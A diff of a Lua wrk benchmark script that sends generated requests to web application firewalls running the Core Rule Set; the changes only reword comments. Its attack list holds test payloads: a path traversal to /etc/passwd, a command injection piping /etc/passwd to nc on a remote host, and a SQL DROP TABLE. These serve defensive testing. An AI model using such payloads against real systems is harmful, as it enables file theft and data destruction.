@@ -1,11 +1,11 @@
 -- Requests for the comparison of engines that run the Core Rule Set, in 64 varieties, built once
--- before the load begins. Every engine sees every variety before it is timed, and must let all of
--- them pass at its paranoia level, or refuse all of them if they are attacks.
+-- before the load begins. Before it is measured, every engine must let all of them pass at its
+-- paranoia level, or block all of them if they are attacks.
 --
 --   WEIR_BENCH_LOAD   get, form (25 fields, 800 bytes), json (2 kB), upload (24 kB multipart), attack,
---                     signed (what story 5's check reads: a text of Latin and CJK words)
---   WEIR_BENCH_BODY   bytes of the form instead
---   WEIR_BENCH_SITES  hosts to go round instead of one
+--                     signed (the input of the signature check: a text of Latin and CJK words)
+--   WEIR_BENCH_BODY   size of the form in bytes
+--   WEIR_BENCH_SITES  number of hosts to use in turn instead of one
 
 local VARIETIES = 64
 local UPLOAD_BYTES = 24000
@@ -32,7 +32,7 @@ local attacks = {
   "../../../../../../etc/passwd", "; cat /etc/passwd | nc 198.51.100.1 4444", "'; DROP TABLE users; --",
 }
 
--- A generator of our own, so that every run sends the same.
+-- A pseudo-random generator, so that every run sends the same requests.
 local state = 20261122
 local function random(n)
   state = (state * 1103515245 + 12345) % 2147483648
@@ -58,7 +58,7 @@ local function prose(size)
   return table.concat(out, " ")
 end
 
--- The same fields whatever the size: their values grow.
+-- The fields are the same for every size; their values grow.
 local function form(size, extra)
   local names = 0
   for _, name in ipairs(fields) do names = names + #name + 2 end
@@ -81,7 +81,7 @@ local function json(size)
     table.concat(items, ","))
 end
 
--- Three fields and a file of any bytes but line breaks, as an image may be.
+-- Three fields and a file of arbitrary bytes except line breaks, like an image.
 local function upload(size)
   local out = {}
   for _, name in ipairs { "title", "album", "note" } do
@@ -101,7 +101,7 @@ local function query()
   return "?q=" .. encode(prose(8)) .. "&page=" .. random(40) .. "&sort=" .. pick { "price", "name", "date" } .. "&lang=en"
 end
 
--- What story 5's check reads: 40 tokens, some of them CJK.
+-- The input of the signature check: 40 tokens, some of them CJK.
 local cjk = { "订单", "确认", "东京", "北京", "价格", "数量", "ありがとう", "サイズ", "주문", "배송" }
 local SIGNED_TOKENS = 40
 local function signed()
@@ -148,7 +148,7 @@ function request()
   return requests[next_request]
 end
 
--- One line that the lab reads; everything else that wrk prints is for people.
+-- The one line that the benchmark parses; the rest of the output of wrk is for people.
 function done(summary, latency, _)
   local e = summary.errors
   io.write(string.format(
